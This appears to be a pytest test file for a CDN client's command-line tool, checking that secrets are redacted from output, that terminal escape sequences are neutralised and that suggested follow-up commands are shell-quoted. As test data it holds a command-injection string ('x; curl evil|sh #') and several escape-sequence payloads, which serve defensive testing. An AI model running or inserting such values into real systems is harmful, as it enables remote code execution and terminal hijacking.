"""What others have written is redacted, escaped and cut wherever it is shown, in time in proportion to it."""

from __future__ import annotations

import json
import os
import shlex
import time
from datetime import UTC, datetime
from pathlib import Path

import pytest

import quantcdn
from quantcdn._display.text import redacted, truncated
from quantcdn.cli.audit_log import AuditLog
from quantcdn.cli.progress.wait_report import advice
from quantcdn.emulator import Emulator, Fault
from quantcdn.exceptions import ApiValueError
from quantcdn.models import GetAIToolExecutionStatus200Response as Execution
from quantcdn.models import ListAIToolExecutions200ResponseExecutionsInner as Listed
from test.helpers.process import on_terminal, run
from test.helpers.server import ScriptedServer, answer

SIGNED = "https://user:pass@b.example/a.png?X-Amz-Signature=5ecre7&X-Amz-Security-Token=5ecre7"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (f"cannot fetch {SIGNED}, sorry", "cannot fetch https://b.example/a.png?… sorry"),
        ("Signature=5ecre7&sig=5ecre7 token=5ecre7", "Signature=…&sig=… token=…"),
        ("a-X-Amz-Signature%3D5ecre7", "a-X-Amz-Signature%3D…"),
        ("access_token=5ecre7", "access_token=…"),
        ("AWSAccessKeyId=5ecre7", "AWSAccessKeyId=…"),
        ("x-amz-x-amz-x-amz-signature=5ecre7", "x-amz-x-amz-x-amz-signature=…"),
        ("a = b, and the token is old", "a = b, and the token is old"),
        (r"no https:\/\/me:5ecre7@b\/a?sig=5ecre7\/5ecre7\u0026b, no", r"no https:\/\/b\/a?… no"),
        (r"https://b/a\u003fSignature\u003d5ecre7\u0026X-Amz-Date\u003d1", r"https://b/a\u003f…"),
        ("https%3A%2F%2Fme%3A5ecre7%40b%2Fa%3fsig%3D5ecre7 x", "https%3A%2F%2Fb%2Fa%3f… x"),
        ("https%253A%252F%252Fb%253Fsig%253D5ecre7", "https%253A%252F%252Fb%253F…"),
        ("https:&#x2F;&#47;b?a&#61;5ecre7&amp;sig&#61;5ecre7", "https:&#x2F;&#47;b?…"),
        ("%26X-Amz-Signature%3D5ecre7 %2526sig%253D5ecre7", "%26X-Amz-Signature%3D… %2526sig%253D…"),
        (r"\u0026sig\u003d5ecre7\u0026a", r"\u0026sig\u003d…\u0026a"),
        ("Signature=5ec\\/5ecre7", "Signature=…"),
        ("s3://me:5ecre7@b/a?5ecre7", "s3://b/a?…"),
        ("https://me:p@5ecre7@b/a", "https://b/a"),
        ("X-Amz-Signature: 5ecre7", "X-Amz-Signature: …"),
        ("{'Signature': '5ecre7', \"access_token\":\"5ecre7\"}", "{'Signature': '…', \"access_token\":\"…\"}"),
        ("was eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOjV9.5ecre7_5-e", "was eyJ…"),
        ("Authorization: BEARER 5ecre7-5ecre7", "Authorization: BEARER …"),
        ("Bearer authentication, 1", "Bearer authentication, 1"),
        ("eyjafjallajokull.is", "eyjafjallajokull.is"),
    ],
)
def test_what_authorises_is_left_out_of_any_text(text: str, shown: str) -> None:
    assert redacted(text) == shown


@pytest.mark.parametrize(
    "piece",
    [
        *(
            "x-amz-",
            "x-goog-a",
            "x-amz-a%3d",
            "signature",
            "access_token",
            "http://a@",
            "https://",
            "sig%3",
            "a.x-amz-",
        ),
        *(
            "a.x-amz-",
            "\\",
            "://\\",
            "%25",
            "%3a%2f%2f",
            "://&amp;",
            "-eyJ-",
            "eyJaaaaaaaa.",
            "bearer 1",
            'sig" ',
            "://a%40",
        ),
    ],
)
def test_the_time_of_it_grows_with_the_length_of_the_text(piece: str) -> None:
    started = time.process_time()
    redacted(piece * (1_600_000 // len(piece)) + "=a")
    assert time.process_time() - started < 20  # one that grows with the square takes an hour


@pytest.mark.parametrize("body", [json.dumps({"error": "x-amz-" * 166_666}), json.dumps({"error": f"no {SIGNED}"})])
def test_an_error_is_shown_in_time_and_without_a_signature(body: str) -> None:
    with ScriptedServer(answer(400, body)) as server:
        configuration = quantcdn.Configuration(server.url, access_token="t0ken", max_error_size=2_000_000)
        with quantcdn.ApiClient(configuration) as client, pytest.raises(quantcdn.BadRequestException) as caught:
            quantcdn.AIToolsApi(client).list_ai_tools("acme")
    started = time.process_time()
    shown = (
        f"{caught.value} {caught.value!r} {caught.value._repr_html_()} {quantcdn._display.mixin.plain(caught.value)}"
    )
    assert time.process_time() - started < 10
    assert "5ecre7" not in shown
    assert "user:pass" not in shown
    model = Execution.from_json(f'{{"executionId":"e","toolName":"t","status":"failed","createdAt":1,{body[1:]}')
    started = time.process_time()
    assert "5ecre7" not in f"{model} {model._repr_html_()}"
    assert time.process_time() - started < 10
    with Emulator() as service:
        service.add_fault(Fault(status=400, body=body.encode()), times=None)
        done = run("executions", "list", "-v", service=service)
    assert done.code == 1
    assert "5ecre7" not in done.err


ODD_KEYS = [
    "\x1b]52;c;Y3VybA==\x07",
    "\x1b[2J",
    "\x1b]0;title\x07",
    "\u202egnp",
    "\x9b31m",
    "k" * 5_000,
]


@pytest.mark.parametrize("arguments", [["get", "e"], ["get", "e", "--fields", "\x1b[2J,toolName"], ["wait", "e"]])
def test_keys_of_the_service_steer_no_terminal_and_flood_none(arguments: list[str]) -> None:
    more = {key: {key: [{key: 1}]} for key in ODD_KEYS}
    body = {"executionId": "e", "toolName": SIGNED, "status": "complete", "createdAt": 1, **more, "result": more}
    with Emulator() as service:
        service.start_execution("calculate", pending=0, running=0, execution_id="e")
        service.add_fault(Fault(body=json.dumps(body).encode()), times=None)
        code, shown = on_terminal("executions", *arguments, service=service, columns=120, NO_COLOR="1")
        piped = run("executions", *arguments, "--fields", "toolName", service=service)
    assert code == 0
    ours = shown.replace("\x1b[K", "").replace("\r", "")
    assert all(character.isprintable() or character == "\n" for character in ours)
    assert len(shown) < 30_000
    assert "5ecre7" not in shown
    assert piped.out == f"{SIGNED}\n"


def test_a_record_of_many_fields_and_lines_is_cut() -> None:
    body = {"executionId": "e", "toolName": "t", "status": "complete", "createdAt": 1, "result": list(range(20_000))}
    body |= {f"key{number}": "\u0301" * 100 for number in range(5_000)}
    with Emulator() as service:
        service.add_fault(Fault(body=json.dumps(body).encode()), times=None)
        code, shown = on_terminal("executions", "get", "e", service=service, NO_COLOR="1")
    assert code == 0
    assert "more lines, which --json shows" in shown
    assert "more fields, which --json shows" in shown
    assert len(shown.splitlines()) < 1_500


EVIL = "x; curl evil|sh #"


def test_advice_is_quoted_and_has_the_flags_of_the_command(tmp_path: Path) -> None:
    file = tmp_path / "my token"
    with Emulator() as service:
        file.write_text(service.token)
        file.chmod(0o600)
        service.start_execution("calculate", pending=0, running=900, execution_id=EVIL)
        given = ["--timeout", "0", "--save", f"{tmp_path}/a b", "--exit-status", "--token-file", str(file), "--ndjson"]
        done = run("executions", "wait", EVIL, *given, service=service)
        assert done.code == 124
        line = done.err.splitlines()[-1].removeprefix("To go on: ")
        words = shlex.split(line)
        assert words[:4] == ["quantcdn", "executions", "wait", EVIL]
        assert sorted(words[4:]) == sorted(given)
        saved = run("executions", "save", EVIL, "--to", "a;b", service=service)
        assert shlex.split(saved.err.partition("To wait for them: ")[2])[3:] == [EVIL, "--save", "a;b"]
        service.start_execution("generate_image", pending=0, running=0, execution_id=f"{EVIL}2")
        _, shown = on_terminal("executions", "get", f"{EVIL}2", service=service, columns=200, NO_COLOR="1")
    advised = shown.partition("To save its images: ")[2]
    assert shlex.split(advised) == ["quantcdn", "executions", "save", f"{EVIL}2"]


def test_an_identifier_that_looks_like_a_flag_is_none_in_advice() -> None:
    assert advice("quantcdn executions wait", ["--json"], ["-rf", "a"]) == "quantcdn executions wait --json -- -rf a"


NOW = datetime(2026, 11, 24, tzinfo=UTC)
OWN = b'{"at":"2026-11-23T00:00:00Z","watching":true}\n'


@pytest.mark.parametrize(
    "content",
    [
        b"{",
        b'{"a',
        b'{"at":"',
        b"\0\0\0",
        b"\0",
        b"[" * 100_000,
        b"\xff\n",
        b'{"at":"2026-01-01T00:00:00","watching":1}\n',
    ],
)
def test_a_file_of_another_is_neither_cut_nor_written(tmp_path: Path, content: bytes) -> None:
    path = tmp_path / "file"
    path.write_bytes(content)
    with pytest.raises(ApiValueError, match="give another file"):
        AuditLog(path)
    assert path.read_bytes() == content


@pytest.mark.parametrize(
    "odd",
    [
        b"a note\n",
        b"[" * 100_000 + b"\n",
        b"\xff\n",
        b"\0\0\n",
        b'{"at":3}\n',
        b'{"at":"2026-01-01","gap":{"unfinished":3}}\n',
    ],
)
def test_odd_lines_among_its_own_are_left_and_the_log_goes_on(tmp_path: Path, odd: bytes) -> None:
    path = tmp_path / "log"
    row = Listed.from_dict({"executionId": "e", "toolName": "\ud800", "status": "running", "createdAt": 1})
    assert row is not None
    for before in (OWN + odd, OWN + odd + OWN, odd + OWN, OWN + odd.removesuffix(b"\n")):
        path.write_bytes(before)
        with AuditLog(path, lambda: NOW) as log:
            log.add([])
        assert path.read_bytes().startswith(before.rstrip(b"\0"))
        assert path.read_bytes().endswith(b'"watching":true}\n') or b'"gap"' in path.read_bytes()


def test_half_a_surrogate_pair_is_logged(tmp_path: Path) -> None:
    row = Listed.model_construct(execution_id="e", tool_name="t", status="running", created_at=1)
    with AuditLog(tmp_path / "log", lambda: NOW) as log:
        log.add([row])
        log._write("execution", {"toolName": "\ud800"})
    assert json.loads((tmp_path / "log").read_bytes().splitlines()[-1])["execution"] == {"toolName": "\ud800"}


@pytest.mark.parametrize("which", ["token", "settings", "log"])
def test_a_pipe_that_nobody_writes_to_holds_no_command_up(tmp_path: Path, which: str) -> None:
    place = tmp_path / "quantcdn" / "config.toml"
    place.parent.mkdir()
    os.mkfifo(place)
    environ = {"XDG_CONFIG_HOME": str(tmp_path)} if which == "settings" else {}
    flags = {"token": ["--token-file", str(place)], "log": ["--log", str(place)], "settings": []}[which]
    with Emulator() as service:
        done = run("executions", "watch", "--timeout", "0", *flags, service=service, **environ)
    assert done.code == 2


def test_a_token_that_others_can_read_is_refused_wherever_it_is(tmp_path: Path) -> None:
    file = tmp_path / "it's"
    file.write_text("t0ken")
    file.chmod(0o644)
    done = run("tools", "names", "--token-file", str(file), QUANTCDN_ORGANIZATION="a")
    assert done.code == 2
    assert f"others can read or change it: chmod 600 {shlex.quote(str(file))}" in done.err
    assert "t0ken" not in done.err


def test_a_url_that_is_cut_shows_no_password_that_stands_before_its_end() -> None:
    text = f"https://h.example/a?{'q' * 9_950} https://user:5ecre7{'x' * 100}@b.example/"
    assert truncated(text) == "https://h.example/a?……"
    assert truncated("x" * 20_000) == "x" * 300 + "…"
    assert truncated("x" * 20_000, 10, counted=True) == "x" * 10 + "… (19,990 more characters)"
